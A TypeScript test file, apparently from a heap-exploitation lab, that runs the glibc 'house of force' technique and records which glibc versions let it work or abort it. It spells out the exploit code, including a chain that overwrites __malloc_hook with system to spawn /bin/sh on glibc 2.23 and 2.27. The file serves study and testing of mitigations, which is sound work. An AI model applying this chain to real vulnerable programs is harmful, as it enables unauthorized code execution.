/**
 * house_of_force: overwrite the top chunk's size with (size_t)-1, so that any request fits in
 * top; one malloc of exactly the distance to a target moves top there, and the next malloc
 * returns the target. glibc 2.29 added "malloc(): corrupted top size" (top larger than the
 * arena's system_mem). A target below the heap needs a request that wraps around the address
 * space; from glibc 2.30 malloc refuses any request above PTRDIFF_MAX before looking at top.
 */

import assert from "node:assert/strict";
import { type Lab, on, technique } from "./support.ts";

const LATER: ["2.31", "2.35", "2.36", "2.39", "2.41"] = ["2.31", "2.35", "2.36", "2.39", "2.41"];

/** Runs the technique against `target` (a user pointer) and checks malloc returns it. */
function force(lab: Lab, target: number): void {
  const h = lab.heap;
  const p1 = h.malloc(256);
  const top = lab.chunk(p1) + lab.chunkSize(256);
  assert.equal(h.bins().top.address, top);
  lab.vulnerability();
  lab.write(top + lab.sz, -1); // the overflow into top's size: (size_t) -1
  // request2size(evil) is the distance from top to the target's chunk.
  const evil = lab.words.sub(lab.words.sub(lab.chunk(target), top), lab.sz);
  const moved = h.malloc(evil);
  assert.notEqual(moved, 0, "malloc refused the request that moves top");
  assert.equal(moved, p1 + lab.chunkSize(256));
  assert.equal(h.malloc(100), target);
}

technique({
  name: "house_of_force",
  claim: "malloc returns a target above the heap",
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(LATER, { aborts: "malloc(): corrupted top size", in: "malloc" }),
  },
  // A mapping 256 MiB above the heap: close enough for a request below PTRDIFF_MAX on i386.
  run: (lab) => force(lab, lab.mapStack(0x2000, lab.proc.start.initialBreak + 0x1000_0000) + 0x100),
});

technique({
  name: "house_of_force (target below the heap)",
  claim: "a wrapped-around request makes malloc return a global variable",
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(LATER, {
      fails: "malloc refuses requests above PTRDIFF_MAX",
      assertion: "malloc refused the request that moves top",
    }),
  },
  run: (lab) => force(lab, lab.global()),
});

technique({
  name: "house_of_force (onto __malloc_hook)",
  claim: "malloc runs system",
  // on i386 libc lies more than PTRDIFF_MAX above the heap: 2.30+ refuse the request quietly
  arches: ["x86_64"],
  outcomes: {
    "2.23": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
    "2.27": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
    ...on(LATER, { aborts: "malloc(): corrupted top size", in: "malloc" }),
  },
  run(lab: Lab) {
    const base = lab.leakLibcBase();
    const binsh = lab.heap.malloc(0x20);
    lab.writeString(binsh, "/bin/sh");
    const hook = base + lab.libcOffset("__malloc_hook");
    force(lab, hook); // malloc returns &__malloc_hook
    lab.write(hook, base + lab.libcOffset("system"));
    lab.heap.malloc(binsh); // __malloc_hook(size = binsh, caller): system("/bin/sh")
  },
});
